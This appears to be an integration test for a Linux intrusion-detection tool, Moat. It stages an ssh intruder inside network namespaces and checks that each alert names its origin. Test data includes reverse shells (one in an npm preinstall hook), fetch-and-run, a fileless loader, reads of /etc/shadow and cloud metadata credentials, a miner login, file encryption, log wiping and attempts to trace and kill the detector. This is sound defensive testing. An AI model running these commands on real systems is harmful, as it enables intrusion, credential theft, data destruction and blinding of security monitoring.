/**
 * What an intruder does who came in over ssh: real programs, started through a real sshd by a client in a network
 * namespace, under the whole of `moat up` with every behaviour on. Each alert must say where it began: the log-on and
 * the remote address. Nothing leaves the machine; what is dropped, read or wiped is the test's own.
 */
import { spawn } from 'node:child_process';
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { entranceNeeds, openEntrance, type Entrance } from '../live/entrance.ts';
import { lacksKernel, startWatch, type Watch } from '../live/kernel.ts';
import type { AlertLine } from '../live/moat.ts';
import { lacks } from '../need.ts';

type Told = AlertLine & { origin?: string; origin_ip?: string };
/** Where it began; the source address itself where that is all there is to say. */
const cameFrom = ({ origin_ip, source_ip }: Told): string | undefined => origin_ip ?? source_ip;

const network = '203.0.113';
const folder = mkdtempSync(join(tmpdir(), 'session-'));
const at = (name: string): string => join(folder, name);
const python = '/usr/bin/python3';
const wallet = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const login = `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"${wallet}","pass":"x"}}`;

/** A copy of a program where honest ones do not lie. */
function planted(program: string, name: string): string {
  const path = at(name);
  copyFileSync(program, path);
  chmodSync(path, 0o755);
  return path;
}

/** Lines of a log that tell of log-ons from an office over the last days: what Moat finds when it is started. */
function officeLog(): string {
  const line = (daysAgo: number): string => `${new Date(Date.now() - daysAgo * 86_400_000).toISOString().slice(0, 19)}+00:00 web1 sshd[${1000 + daysAgo}]: Accepted publickey for root from 192.0.2.10 port ${40_000 + daysAgo} ssh2: ED25519 SHA256:invented\n`;
  return [5, 4, 3, 2, 1].map(line).join('');
}

describe.skipIf(lacks(entranceNeeds) || await lacksKernel())('an intruder who came in over ssh', () => {
  let watch: Watch;
  let door: Entrance;
  /** Whoever listens at the far end: says nothing, ends what connects after a while. */
  let far: ReturnType<typeof spawn>;

  beforeAll(async () => {
    chmodSync(folder, 0o755);
    mkdirSync(at('home/.ssh'), { recursive: true });
    writeFileSync(at('auth.log'), officeLog());
    const number = (ip: string): number => ip.split('.').reduce((sum, part) => sum * 256 + Number(part), 0);
    writeFileSync(at('countries'), `${number('198.51.100.0')},${number('198.51.100.255')},DE\n`);
    writeFileSync(at('list.txt'), '203.0.113.254\n');
    watch = await startWatch({
      logs: true,
      settings: { 'port-whitelist': { ports: ['1-40000/tcp', '1-65535/udp'] }, 'bad-peer': { homeCountry: 'CN' }, triad: { local: true }, 'mass-change': { baits: [] }, 'intelligence-match': { inbound: false } },
      yaml: [
        `logs: { journal: "off", usual: false, files: [${JSON.stringify(at('auth.log'))}], first_hours: 240 }`,
        `files: { secrets: [${JSON.stringify(at('home/.ssh/id_ed25519'))}] }`, `geo: { country: ${JSON.stringify(at('countries'))} }`,
        `intelligence: { lists: [{ name: ours, file: ${JSON.stringify(at('list.txt'))}, what: c2 }] }`,
      ].join('\n'),
    });
    door = await openEntrance(network);
    copyFileSync(door.key, at('home/.ssh/id_ed25519'));
    chmodSync(at('home/.ssh/id_ed25519'), 0o600);
    far = spawn('ip', ['netns', 'exec', door.namespace, process.execPath, '-e', `for (const port of [443, 4444, 8080]) require('net').createServer((socket) => { socket.on('error', () => socket.destroy()); setTimeout(() => { if (port === 8080) socket.end('HTTP/1.0 200 OK\\r\\n\\r\\n#!/bin/sh\\ntrue\\n'); else socket.end('exit\\n'); }, 300); }).listen(port, '${door.address}', () => process.stdout.write('.'))`], { stdio: ['ignore', 'pipe', 'ignore'] });
    await new Promise<void>((resolve) => { let said = ''; far.stdout?.on('data', (chunk: Buffer) => { said += chunk.toString(); if (said.length === 3) resolve(); }); });
  });
  afterAll(async () => {
    far?.kill('SIGKILL');
    await door?.close();
    await watch?.end();
    rmSync(folder, { recursive: true, force: true });
  });

  /** The alert, which must say who began it and from where. */
  async function told(id: string, text: string | RegExp, levels: readonly string[] = ['high', 'critical']): Promise<Told> {
    const alert = await watch.waitFor((one) => one.rule_id === `behaviour.${id}` && (typeof text === 'string' ? one.summary.includes(text) : text.test(one.summary)), `${id} of ${String(text)}`) as Told;
    expect([alert.origin, cameFrom(alert)], alert.summary).toEqual([expect.stringContaining(`ssh log-on of root from ${door.address}`), door.address]);
    expect(levels, alert.summary).toContain(alert.level);
    return alert;
  }
  /** In a network namespace of its own in which these networks are the machine itself. */
  const inNetwork = (networks: readonly string[], command: string): string => `unshare --net sh -c 'ip link set lo up; ${networks.map((one) => `ip route add local ${one} dev lo; `).join('')}${command}'`;

  it('takes a key and goes on to further hosts', async () => {
    const hosts = [1, 2, 3, 4].map((n) => `${network}.${n}`);
    await door.hosts(hosts);
    const ssh = (host: string): string => `ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -i ${at('home/.ssh/id_ed25519')} root@${host} 'echo in'; `;
    const { out } = await door.run(`cat ${at('home/.ssh/id_ed25519')} > /dev/null; ${hosts.map(ssh).join('')}`);
    expect(out).toBe('in\n'.repeat(4));
    const alert = await told('scan-fan-out', 'by SSH', ['critical']);
    expect(alert.summary).toContain(at('home/.ssh/id_ed25519'));
    expect(alert.summary).toContain(`log-on session of root from ${door.address}`);
  });

  it('knocks at a whole network', async () => {
    await door.run(inNetwork(['198.51.100.0/24'], `${planted('/bin/bash', 'knock')} -c "for i in {1..60}; do (: > /dev/tcp/198.51.100.\\$i/22) 2>/dev/null; done; true"`));
    await told('scan-fan-out', 'addresses within', ['critical']);
  });

  it('opens a shell to the far end, and a listener', async () => {
    await door.run(`bash -c 'bash -i >& /dev/tcp/${door.address}/4444 0>&1'`);
    await told('reverse-shell', `${door.address}:4444`);
    await door.run(`timeout 1 ${planted(process.execPath, 'httpd2')} -e 'require("net").createServer().listen(45454, "0.0.0.0")'; true`);
    await told('port-whitelist', '45454');
  });

  it('fetches a program, marks and runs it', async () => {
    const file = at('.update');
    await door.run(`curl -s http://${door.address}:8080/x -o ${file} || true; chmod +x ${file}; sleep 0.2; ${file}`);
    await told('download-run', `${file}, fetched by /usr/bin/curl`);
    await told('triad', file);
  });

  it('runs from memory, from a removed file, and with a library forced in', async () => {
    const inMemory = `import os\nfd=os.memfd_create("session-memory",0)\nos.write(fd,open("/bin/true","rb").read())\nos.execve(fd,["kworker"],{})\n`;
    const removed = `import os,shutil\nshutil.copy("/bin/true","${at('gone')}")\nos.chmod("${at('gone')}",0o755)\nfd=os.open("${at('gone')}",os.O_RDONLY)\nos.unlink("${at('gone')}")\nos.execve(fd,["gone"],{})\n`;
    copyFileSync('/bin/true', at('forced.so'));
    writeFileSync(at('memory.py'), inMemory);
    writeFileSync(at('removed.py'), removed);
    await door.run(`${lacks({ files: [python], why: 'a fileless loader' }) ? '' : `${python} ${at('memory.py')}; ${python} ${at('removed.py')}; `}LD_PRELOAD=${at('forced.so')} /bin/true 2>/dev/null; true`);
    if (!lacks({ files: [python] })) {
      await told('odd-exec-place', 'memfd:session-memory', ['critical']);
      await told('odd-exec-place', at('gone'));
    }
    await told('preload-exec', `LD_PRELOAD=${at('forced.so')}`);
  });

  it('reads the password hashes, and asks the metadata service', async () => {
    await door.run(`${planted('/bin/cat', 'look')} /etc/shadow > /dev/null`);
    await told('credential-read', '/etc/shadow', ['critical']);
    await door.run(inNetwork(['169.254.169.254/32'], `${planted('/usr/bin/curl', 'fetch')} -s -m 1 http://169.254.169.254/latest/meta-data/ram/security-credentials/role; true`));
    await told('metadata-access', '169.254.169.254');
  });

  it('mines under another name, and calls listed addresses, countries and hidden names', async () => {
    writeFileSync(at('greet'), `exec 3<>/dev/tcp/${door.address}/443\nprintf '%s\\n' '${login}' >&3\nread -t 1 -r line <&3\n`);
    await door.run(`${planted('/bin/bash', 'rsyslogd')} ${at('greet')}; true`);
    expect((await told('miner', 'mining protocol', ['critical'])).summary).toContain(wallet);
    await told('intelligence-match', `${door.address} on list ours`);
    await door.run(inNetwork(['198.51.100.0/24'], `${planted('/bin/bash', 'sync')} -c ": > /dev/tcp/198.51.100.7/443" 2>/dev/null; true`));
    await told('bad-peer', '198.51.100.7:443 (DE)');
    // A question as it goes over the wire; nobody answers.
    const question = String.raw`\x01\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x10abcdefghij234567\x05onion\x00\x00\x01\x00\x01`;
    await door.run(`${planted('/bin/bash', 'names')} -c "printf '${question}' > /dev/udp/${door.address}/53"`);
    await told('bad-peer', 'abcdefghij234567.onion', ['critical']);
  });

  it('encrypts documents', async () => {
    mkdirSync(at('documents'));
    for (let i = 0; i < 30; i++) writeFileSync(join(at('documents'), `report${i}.${['docx', 'xlsx', 'txt', 'jpg', 'sql'][i % 5]}`), `line ${i}\n`.repeat(200));
    writeFileSync(at('enc.js'), `const fs = require('fs'), crypto = require('crypto'); process.chdir('${at('documents')}'); for (const file of fs.readdirSync('.')) { fs.writeFileSync(file, crypto.randomBytes(2000)); fs.renameSync(file, file + '.moatlock'); }`);
    await door.run(`${process.execPath} ${at('enc.js')}`);
    await told('mass-change', '.moatlock');
  });

  it('breaks out of a namespace', async () => {
    mkdirSync(at('cg'));
    await door.run(`unshare --user --map-root-user --pid --mount --fork sh -c ': > ${at('cg')}/release_agent; nsenter -t 1 -m true; true'`);
    await told('container-escape', /release_agent|nsenter/, ['critical']);
  });

  it('a package that it installs opens a shell', async () => {
    mkdirSync(at('project'));
    writeFileSync(at('project/package.json'), JSON.stringify({ name: 'left-padd', version: '1.0.0', scripts: { preinstall: `bash -c 'bash -i >& /dev/tcp/${door.address}/4444 0>&1'` } }));
    await door.run(`cd ${at('project')} && PATH=${process.execPath.replace(/\/node$/, '')}:$PATH HOME=${folder} npm_config_update_notifier=false npm install --offline --no-audit --no-fund > /dev/null 2>&1; true`);
    const alert = await watch.waitFor((one) => one.rule_id === 'behaviour.package-child' && one.level === 'critical', 'of the script') as Told;
    // A tree of its own, that of the package, with the address it began with.
    expect([alert.origin, cameFrom(alert)]).toEqual([expect.stringContaining(`npm run by root from ${door.address}`), door.address]);
  });

  it('covers its tracks: empties logs, turns the history into nothing, unsets it', async () => {
    writeFileSync(at('home/.bash_history'), 'id\n');
    const wipe = (program: string, log: string): Promise<unknown> => door.run(`unshare --mount --propagation private sh -c 'mount -t tmpfs tmpfs /var/log && : > ${log} && ${program} -s 0 ${log}'`);
    await wipe('truncate', '/var/log/auth.log');
    await told('log-tampering', /truncate .*\/var\/log\/auth\.log/, ['medium', 'high']);
    await wipe(planted('/usr/bin/truncate', 'zap'), '/var/log/wtmp');
    await told('log-tampering', /zap .*\/var\/log\/wtmp/, ['critical']);
    // In a file: the words on the client's command line are not the session's.
    writeFileSync(at('tidy'), `ln -sf /dev/null ${at('home/.bash_history')}\nbash -c 'unset HISTFILE; export HISTSIZE=0; id' > /dev/null\n`);
    await door.run(`sh ${at('tidy')}`);
    await told('log-tampering', at('home/.bash_history'), ['medium', 'high']);
    const rule = await watch.waitFor((one) => one.rule_id === 'shell_history_suppressed', 'of the unset history') as Told;
    expect(cameFrom(rule)).toBe(door.address);
  });

  it('goes for Moat: traces it, reads its memory, covers its process, stops it', async () => {
    const moat = watch.child.pid ?? 0;
    // PTRACE_SEIZE does not stop it; the tracer's end lets it go.
    writeFileSync(at('trace.py'), `import ctypes\nlibc=ctypes.CDLL(None,use_errno=True)\nlibc.ptrace.argtypes=[ctypes.c_long]*4\nlibc.ptrace(0x4206,${moat},0,0)\n`);
    writeFileSync(at('peek.py'), `import ctypes\nlibc=ctypes.CDLL(None)\nclass iov(ctypes.Structure):\n  _fields_=[("b",ctypes.c_void_p),("n",ctypes.c_size_t)]\nlines=[l for l in open("/proc/${moat}/maps") if "[heap]" in l]\nbuf=ctypes.create_string_buffer(16)\nlibc.process_vm_readv(${moat},ctypes.byref(iov(ctypes.addressof(buf),16)),1,ctypes.byref(iov(int(lines[0].split("-")[0],16),16)),1,0)\n`);
    if (!lacks({ files: ['/usr/bin/python3'], why: 'tracing Moat' })) {
      const tracer = planted(python, 'tracer');
      await door.run(`${tracer} ${at('trace.py')}; ${tracer} ${at('peek.py')}`);
      await told('blinding', 'traces Moat', ['critical']);
      await told('blinding', 'read the memory of Moat', ['critical']);
    }
    await door.run(`unshare --mount --propagation private mount -t tmpfs tmpfs /proc/${moat}`);
    await told('blinding', 'mounts over Moat', ['critical']);
    const evil = planted('/bin/bash', 'evil');
    await door.run(`${evil} -c 'kill -STOP ${moat}; sleep 0.1; kill -CONT ${moat}'`);
    await told('blinding', 'SIGSTOP', ['critical']);
    // The last word: the alert is out before it ends.
    const gone = new Promise((resolve) => { watch.child.once('exit', resolve); });
    await door.run(`${evil} -c 'kill -TERM ${moat}'`);
    await gone;
    await told('blinding', 'SIGTERM', ['critical']);
  });
});
